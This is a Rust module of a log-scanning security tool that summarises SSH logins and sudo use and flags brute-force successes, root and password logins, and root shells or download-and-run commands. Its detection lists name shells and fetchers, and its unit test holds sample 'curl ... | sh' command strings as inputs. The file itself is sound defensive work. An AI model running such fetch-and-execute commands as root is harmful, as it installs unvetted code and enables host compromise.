//! `logscan summary`: per source address (failures, distinct users tried,
//! first/last seen, successes), accepted logins, sudo activity, and the
//! findings an administrator acts on:
//!
//! - `logscan/brute-force-success` (critical): a login accepted from an
//!   address that failed before it;
//! - `logscan/root-login` (high): a login as root;
//! - `logscan/password-login` (medium): a login with a password where keys
//!   are expected;
//! - `logscan/new-source` (medium): a user logging in from an address they
//!   never logged in from before in the scanned logs;
//! - `logscan/sudo-download-exec` (critical): a command run through sudo
//!   that fetches something and runs it (`sh -c 'curl URL | sh'`);
//! - `logscan/sudo-shell` (high): a shell run through sudo (`sudo -i`,
//!   `sudo -s`, `sudo sh -c ...`): whatever it ran next is not in the log.
//!
//! With `--since`, earlier lines are still read: they are the history that
//! makes an address "new" or a login "after failures", but only logins in
//! the window become findings and only the window is tabulated. Memory grows
//! with distinct addresses (users tried per address are capped), not lines.

use std::collections::{BTreeMap, HashSet};

use crate::hashing::{FastMap as HashMap, FastSet};
use std::hash::BuildHasher;
use std::io;

use hardkit_core::output::escape_untrusted_bytes;
use hardkit_core::{BytesPath, Finding, Location, Record, Severity};
use serde::{Deserialize, Serialize};

use crate::event::{Event, Kind, Source};
use crate::report::Output;
use crate::scan::{output_error, scan_inputs, Input, OutputError, ScanOptions, Scanner, Sink};
use crate::time::{rfc3339, rfc3339_utc};

/// Users remembered per address (more are counted but not told apart).
const MAX_USERS_PER_ADDRESS: usize = 256;
/// Accepted logins kept for the table and findings.
const MAX_LOGINS: usize = 100_000;

/// Per-address statistics of the window (docs/protocol.md).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct AddressStats {
    pub ip: String,
    pub failures: u64,
    pub users: u64,
    pub successes: u64,
    pub first_seen: Option<String>,
    pub last_seen: Option<String>,
}

impl Record for AddressStats {
    const TYPE: &'static str = "address";
}

/// One accepted login in the window (docs/protocol.md).
/// sudo use of one account in the window (docs/protocol.md).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SudoUse {
    pub user: String,
    pub commands: u64,
    pub auth_failures: u64,
    pub denied: u64,
    pub last_command: Option<String>,
}

impl Record for SudoUse {
    const TYPE: &'static str = "sudo";
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Login {
    pub time: Option<String>,
    pub user: String,
    pub method: String,
    pub ip: String,
    pub key: Option<String>,
    pub source: Source,
}

impl Record for Login {
    const TYPE: &'static str = "login";
}

/// One address, in 64 bytes (a million must fit in 128 MB); `i64::MIN`
/// is "not seen in the window".
#[derive(Debug)]
struct Addr {
    failures: u64,
    /// Failures at any time (history included), for brute-force-success.
    failures_ever: u64,
    users: UserSet,
    successes: u64,
    first_seen: i64,
    last_seen: i64,
}

const NEVER: i64 = i64::MIN;

impl Default for Addr {
    fn default() -> Self {
        Addr {
            failures: 0,
            failures_ever: 0,
            users: UserSet::default(),
            successes: 0,
            first_seen: NEVER,
            last_seen: NEVER,
        }
    }
}

/// Distinct user names an address tried, as hashes: one inline (most
/// addresses try one name), then a boxed vector, capped.
#[derive(Debug, Default)]
struct UserSet {
    first: u64,
    /// 1: `first` holds a name; 2: more names than the cap.
    flags: u8,
    // Boxed: 8 bytes per address instead of a Vec's 24, and most
    // addresses never try a second name.
    #[allow(clippy::box_collection)]
    more: Option<Box<Vec<u64>>>,
}

impl UserSet {
    fn insert(&mut self, h: u64) {
        let has_first = self.flags & 1 != 0;
        if (has_first && self.first == h) || self.more.as_ref().is_some_and(|m| m.contains(&h)) {
            return;
        }
        if !has_first {
            self.first = h;
            self.flags |= 1;
            return;
        }
        let more = self.more.get_or_insert_with(Box::default);
        if more.len() + 1 < MAX_USERS_PER_ADDRESS {
            more.push(h);
        } else {
            self.flags |= 2;
        }
    }

    fn count(&self) -> u64 {
        u64::from(self.flags & 1)
            + self.more.as_ref().map_or(0, |m| m.len() as u64)
            + u64::from(self.flags >> 1 & 1)
    }
}

#[derive(Debug, Default)]
struct SudoStats {
    commands: u64,
    auth_failures: u64,
    denied: u64,
    last_command: Option<String>,
}

struct Collector<'o> {
    since: Option<i64>,
    out: &'o mut Output,
    path: BytesPath,
    addrs: crate::addrtable::AddrTable<Addr>,
    logins: Vec<(Login, u64)>,
    logins_total: u64,
    known_sources: HashMap<Box<[u8]>, FastSet<Box<[u8]>>>,
    sudo: BTreeMap<String, SudoStats>,
    findings: Vec<Finding>,
    seen_findings: HashSet<(String, String, String)>,
    lines_in_window: u64,
}

fn lossy(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

impl Collector<'_> {
    fn in_window(&self, ev: &Event<'_>) -> bool {
        match (self.since, &ev.time) {
            (Some(s), Some(t)) => t.unix >= s,
            _ => true,
        }
    }

    fn add_finding(&mut self, key: (&str, &[u8], &[u8]), f: Finding) {
        let k = (key.0.to_string(), lossy(key.1), lossy(key.2));
        if self.seen_findings.insert(k) {
            self.findings.push(f);
        }
    }

    fn login(&mut self, ev: &Event<'_>, ip: &[u8], line_no: u64, window: bool) {
        let user = ev.user.unwrap_or(b"");
        let method = ev.method.unwrap_or(b"");
        let earlier_failures = self.addrs.get(ip).map_or(0, |a| a.failures_ever);
        let known = self.known_sources.get(user);
        let is_new = known.is_some_and(|set| !set.contains(ip));
        if window {
            let loc = Location::new(self.path.clone(), Some(line_no));
            let when = ev.time.as_ref().map(rfc3339);
            let (u, i, m) = (lossy(user), lossy(ip), lossy(method));
            if earlier_failures > 0 {
                let f = Finding::new(
                    "logscan/brute-force-success",
                    Severity::Critical,
                    format!("Login as {u} from {i} after {earlier_failures} failed attempt(s) from that address"),
                    "An address that failed to log in then logged in: a password was guessed, or a legitimate user mistyped. Check the session; if it is not yours, the account is compromised.",
                )
                .at(loc.clone())
                .fix(format!("lock the account ({u}) and rotate its credentials unless this login is known; ban {i}"))
                .evidence("ip", &i)
                .evidence("user", &u)
                .evidence("method", &m)
                .evidence("failures_before", earlier_failures)
                .evidence("time", &when);
                self.add_finding(("bf", user, ip), f);
            }
            if user == b"root" {
                let f = Finding::new(
                    "logscan/root-login",
                    Severity::High,
                    format!("root logged in over SSH from {i}"),
                    "Direct root logins leave no trace of who acted and make root's password or key the one secret that opens everything.",
                )
                .at(loc.clone())
                .fix("PermitRootLogin no (log in as a user, then sudo)")
                .refs(["CIS-5.2.10"])
                .evidence("ip", &i)
                .evidence("method", &m)
                .evidence("time", &when);
                self.add_finding(("root", user, ip), f);
            }
            if method == b"password" || method.starts_with(b"keyboard-interactive") {
                let f = Finding::new(
                    "logscan/password-login",
                    Severity::Medium,
                    format!("{u} logged in with a password from {i}"),
                    "Password logins can be guessed by anyone who can reach port 22; keys cannot.",
                )
                .at(loc.clone())
                .fix("install a key for the user, then PasswordAuthentication no and KbdInteractiveAuthentication no")
                .refs(["CIS-5.2.12"])
                .evidence("ip", &i)
                .evidence("user", &u)
                .evidence("method", &m)
                .evidence("time", &when);
                self.add_finding(("pw", user, ip), f);
            }
            if is_new {
                let f = Finding::new(
                    "logscan/new-source",
                    Severity::Medium,
                    format!("{u} logged in from {i}, an address not seen for this user before"),
                    "A login from a new address is how a stolen key or password shows up; confirm it was the user.",
                )
                .at(loc)
                .evidence("ip", &i)
                .evidence("user", &u)
                .evidence("method", &m)
                .evidence("time", &when);
                self.add_finding(("new", user, ip), f);
            }
            self.logins_total += 1;
            if self.logins.len() < MAX_LOGINS {
                self.logins.push((
                    Login {
                        time: when,
                        user: u,
                        method: m,
                        ip: i,
                        key: ev.detail.map(lossy),
                        source: Source {
                            path: self.path.clone(),
                            line: line_no,
                        },
                    },
                    line_no,
                ));
            }
        }
        let set = self.known_sources.entry(user.into()).or_default();
        if set.len() < MAX_USERS_PER_ADDRESS && !set.contains(ip) {
            set.insert(ip.into());
        }
    }
}

/// The program name of a command word (`/usr/bin/bash` -> `bash`).
fn base(word: &[u8]) -> &[u8] {
    word.rsplit(|&c| c == b'/').next().unwrap_or(word)
}

const SHELLS: &[&[u8]] = &[
    b"sh", b"bash", b"dash", b"zsh", b"ksh", b"mksh", b"csh", b"tcsh", b"fish", b"ash", b"busybox",
    b"su",
];
const RUNNERS: &[&[u8]] = &[
    b"python", b"python3", b"perl", b"ruby", b"php", b"node", b"lua",
];
const FETCHERS: &[&[u8]] = &[
    b"curl",
    b"wget",
    b"fetch",
    b"aria2c",
    b"tftp",
    b"lwp-download",
];

/// What a sudo command does that hides the rest: `(id, is download-and-run)`.
/// sudo logs the arguments joined by spaces, quotes dropped, so the words
/// of a `sh -c 'curl ... | sh'` are all on the line.
fn risky_sudo(cmd: &[u8]) -> Option<bool> {
    // The words in command position: the first, one after a separator
    // (`|`, `;`, `&`, `(`, `` ` ``, `$(`), and one after a shell's `-c`.
    let mut commands: Vec<&[u8]> = Vec::new();
    let mut at_command = true;
    for w in cmd.split(|&c| c == b' ') {
        let mut w = w;
        while let Some((&c, rest)) = w.split_first() {
            if matches!(
                c,
                b'|' | b';' | b'&' | b'(' | b'`' | b'$' | b'\'' | b'"' | b'<'
            ) {
                at_command |= !matches!(c, b'\'' | b'"' | b'<');
                w = rest;
            } else {
                break;
            }
        }
        let tail_sep = w
            .iter()
            .rposition(|c| !matches!(c, b'|' | b';' | b'&' | b')' | b'`' | b'\'' | b'"'))
            .map_or(0, |i| i + 1);
        let (word, sep) = w.split_at(tail_sep);
        if !word.is_empty() {
            if at_command {
                commands.push(word);
                at_command = false;
            } else if word == b"-c" {
                at_command = true;
            }
        }
        if sep.iter().any(|c| matches!(c, b'|' | b';' | b'&' | b'`')) {
            at_command = true;
        }
    }
    let is = |w: &[u8], set: &[&[u8]]| {
        let b = base(w);
        set.iter().any(|s| {
            *s == b
                || (b.starts_with(s)
                    && b[s.len()..]
                        .iter()
                        .all(|c| c.is_ascii_digit() || *c == b'.'))
        })
    };
    let fetch = commands.iter().any(|w| is(w, FETCHERS));
    let runs = commands.iter().any(|w| is(w, SHELLS) || is(w, RUNNERS));
    if fetch && runs {
        return Some(true);
    }
    let first = *commands.first()?;
    is(first, SHELLS).then_some(false)
}

impl Collector<'_> {
    fn sudo_command(&mut self, ev: &Event<'_>, line_no: u64) {
        let Some(cmd) = ev.detail else { return };
        let Some(download) = risky_sudo(cmd) else {
            return;
        };
        let user = ev.user.unwrap_or(b"?");
        let (u, c) = (lossy(user), lossy(cmd));
        let when = ev.time.as_ref().map(rfc3339);
        let loc = Location::new(self.path.clone(), Some(line_no));
        let f = if download {
            Finding::new(
                "logscan/sudo-download-exec",
                Severity::Critical,
                format!("{u} fetched and ran code as root through sudo: {c}"),
                "Downloading a script and running it as root is how an intruder installs a backdoor; what it did is not in the log.",
            )
            .fix(format!("find out who ran this as {u}; if it was not a known change, treat the host as compromised"))
        } else {
            Finding::new(
                "logscan/sudo-shell",
                Severity::High,
                format!("{u} started a root shell through sudo: {c}"),
                "Commands typed in a root shell are not logged by sudo: from here on the log shows nothing of what root did.",
            )
            .fix("allow users only the commands they need in sudoers (no shells, no ALL); log sessions with Defaults log_input,log_output")
        }
        .at(loc)
        .evidence("user", &u)
        .evidence("command", &c)
        .evidence("time", &when);
        let id = if download { "sudo-dl" } else { "sudo-sh" };
        self.add_finding((id, user, cmd), f);
    }
}

impl Sink for Collector<'_> {
    fn begin_input(&mut self, path: &BytesPath) -> io::Result<()> {
        self.path = path.clone();
        Ok(())
    }

    fn event(&mut self, ev: &Event<'_>, line_no: u64) -> io::Result<()> {
        let window = self.in_window(ev);
        if window {
            self.lines_in_window += 1;
        }
        match ev.kind {
            Kind::SudoCommand
            | Kind::SudoAuthFailure
            | Kind::SudoNotInSudoers
            | Kind::SudoCommandDenied
                if window =>
            {
                if ev.kind == Kind::SudoCommand {
                    self.sudo_command(ev, line_no);
                }
                let s = self.sudo.entry(lossy(ev.user.unwrap_or(b"?"))).or_default();
                match ev.kind {
                    Kind::SudoCommand => {
                        s.commands += 1;
                        s.last_command = ev.detail.map(lossy);
                    }
                    Kind::SudoAuthFailure => s.auth_failures += 1,
                    _ => s.denied += 1,
                }
            }
            _ => {}
        }
        let Some(ip) = ev.ip.as_deref() else {
            return Ok(());
        };
        if ev.kind == Kind::AuthSuccess {
            self.login(ev, ip, line_no, window);
        }
        if !(ev.failure || ev.kind == Kind::AuthSuccess) {
            return Ok(());
        }
        let a = self.addrs.get_or_insert_with(ip, Addr::default);
        if ev.failure && ev.kind != Kind::AuthSuccess {
            a.failures_ever += u64::from(ev.count);
        }
        if !window {
            return Ok(());
        }
        // An accepted login is a success even when fail2ban also counts it
        // (a connection that tried several user names first).
        if ev.kind == Kind::AuthSuccess {
            a.successes += 1;
        } else {
            a.failures += u64::from(ev.count);
        }
        if let Some(u) = ev.user {
            a.users
                .insert(crate::hashing::FastBuild::default().hash_one(u));
        }
        if let Some(t) = &ev.time {
            a.first_seen = if a.first_seen == NEVER {
                t.unix
            } else {
                a.first_seen.min(t.unix)
            };
            a.last_seen = a.last_seen.max(t.unix);
        }
        Ok(())
    }

    fn input_error(&mut self, path: &BytesPath, message: String) -> io::Result<()> {
        crate::cli::input_error(self.out, path, message).map_err(output_error)
    }
}

pub fn run(opts: ScanOptions, inputs: &[Input], out: &mut Output) -> Result<(), OutputError> {
    // Read everything up to --until: lines before --since are history.
    let mut scanner = Scanner::new(ScanOptions {
        since: None,
        ..opts
    });
    let progress = out.progress();
    let mut c = Collector {
        since: opts.since,
        out,
        path: BytesPath::from("<stdin>"),
        addrs: Default::default(),
        logins: Vec::new(),
        logins_total: 0,
        known_sources: HashMap::default(),
        sudo: BTreeMap::new(),
        findings: Vec::new(),
        seen_findings: HashSet::new(),
        lines_in_window: 0,
    };
    let totals = scan_inputs(&mut scanner, inputs, &mut c, &progress)?;
    // Sort references and build each record when it is written: with a
    // million addresses, a copy of them all would double the peak memory.
    let table = &c.addrs;
    let mut order: Vec<u32> = (0..table.len() as u32)
        .filter(|&i| {
            let a = table.at(i).1;
            a.failures > 0 || a.successes > 0
        })
        .collect();
    order.sort_unstable_by(|&x, &y| {
        let ((kx, ax), (ky, ay)) = (table.at(x), table.at(y));
        ay.failures.cmp(&ax.failures).then_with(|| kx.cmp(&ky))
    });
    let seen = |t: i64| (t != NEVER).then(|| rfc3339_utc(t));
    let stats = |i: &u32| {
        let (ip, a) = table.at(*i);
        AddressStats {
            ip: ip.text(),
            failures: a.failures,
            users: a.users.count(),
            successes: a.successes,
            first_seen: seen(a.first_seen),
            last_seen: seen(a.last_seen),
        }
    };
    let out = c.out;
    if out.is_json() {
        for a in &order {
            out.emit(&stats(a))?;
        }
        for (l, _) in &c.logins {
            out.emit(l)?;
        }
        for (user, s) in &c.sudo {
            out.emit(&SudoUse {
                user: user.clone(),
                commands: s.commands,
                auth_failures: s.auth_failures,
                denied: s.denied,
                last_command: s.last_command.clone(),
            })?;
        }
    } else {
        let failures: u64 = order.iter().map(|&i| table.at(i).1.failures).sum();
        let failing = order
            .iter()
            .filter(|&&i| table.at(i).1.failures > 0)
            .count();
        let top: Vec<AddressStats> = order.iter().take(TABLE_ROWS).map(stats).collect();
        out.text(&render_tables(
            Counts {
                lines: totals.lines,
                failures,
                failing,
                addresses: order.len(),
                logins: c.logins_total,
            },
            &top,
            &c.logins,
            &c.sudo,
        ))?;
    }
    for f in c.findings {
        out.finding(f)?;
    }
    Ok(())
}

/// Rows of each human table (JSON lists everything).
const TABLE_ROWS: usize = 25;

struct Counts {
    lines: u64,
    failures: u64,
    failing: usize,
    addresses: usize,
    logins: u64,
}

fn render_tables(
    counts: Counts,
    addrs: &[AddressStats],
    logins: &[(Login, u64)],
    sudo: &BTreeMap<String, SudoStats>,
) -> String {
    use std::fmt::Write;
    let esc = |s: &str| escape_untrusted_bytes(s.as_bytes());
    let mut t = String::new();
    let _ = writeln!(
        t,
        "{} lines: {} failures from {} address(es), {} accepted login(s)",
        counts.lines, counts.failures, counts.failing, counts.logins
    );
    if !addrs.is_empty() {
        let _ = writeln!(t, "\nSource addresses (most failures first)");
        let _ = writeln!(
            t,
            "  {:<40} {:>8} {:>6} {:>9}  {:<20}  {:<20}",
            "ADDRESS", "FAILURES", "USERS", "SUCCESSES", "FIRST SEEN", "LAST SEEN"
        );
        for a in addrs {
            let _ = writeln!(
                t,
                "  {:<40} {:>8} {:>6} {:>9}  {:<20}  {:<20}",
                esc(&a.ip),
                a.failures,
                a.users,
                a.successes,
                a.first_seen.as_deref().unwrap_or("-"),
                a.last_seen.as_deref().unwrap_or("-")
            );
        }
        if counts.addresses > addrs.len() {
            let _ = writeln!(
                t,
                "  ... {} more (--json lists all)",
                counts.addresses - addrs.len()
            );
        }
    }
    if !logins.is_empty() {
        let _ = writeln!(t, "\nAccepted logins");
        let _ = writeln!(
            t,
            "  {:<25} {:<16} {:<22} {:<40} KEY",
            "TIME", "USER", "METHOD", "ADDRESS"
        );
        for (l, _) in logins.iter().rev().take(TABLE_ROWS).rev() {
            let _ = writeln!(
                t,
                "  {:<25} {:<16} {:<22} {:<40} {}",
                l.time.as_deref().unwrap_or("-"),
                esc(&l.user),
                esc(&l.method),
                esc(&l.ip),
                esc(l.key.as_deref().unwrap_or("-"))
            );
        }
        if logins.len() > TABLE_ROWS {
            let _ = writeln!(
                t,
                "  ... {} earlier (--json lists all)",
                logins.len() - TABLE_ROWS
            );
        }
    }
    if !sudo.is_empty() {
        let _ = writeln!(t, "\nsudo");
        let _ = writeln!(
            t,
            "  {:<16} {:>8} {:>14} {:>7}  LAST COMMAND",
            "USER", "COMMANDS", "AUTH FAILURES", "DENIED"
        );
        for (user, s) in sudo {
            let _ = writeln!(
                t,
                "  {:<16} {:>8} {:>14} {:>7}  {}",
                esc(user),
                s.commands,
                s.auth_failures,
                s.denied,
                esc(s.last_command.as_deref().unwrap_or("-"))
            );
        }
    }
    t.push('\n');
    t
}

#[cfg(test)]
mod sudo_tests {
    use super::risky_sudo;

    #[test]
    fn shells_and_download_and_run() {
        let r = |c: &str| risky_sudo(c.as_bytes());
        assert_eq!(
            r("/bin/sh -c curl http://203.0.113.45/x.sh | sh"),
            Some(true)
        );
        assert_eq!(r("/usr/bin/bash -c wget -qO- http://x/y|bash"), Some(true));
        assert_eq!(
            r("/bin/bash -c python3 <(curl -s http://x/p.py)"),
            Some(true)
        );
        assert_eq!(r("/bin/bash"), Some(false));
        assert_eq!(r("/usr/bin/su -"), Some(false));
        assert_eq!(r("/usr/bin/apt install curl bash"), None);
        assert_eq!(r("/usr/bin/systemctl restart nginx"), None);
        assert_eq!(r("/usr/bin/curl -o /tmp/x http://x/"), None);
    }
}
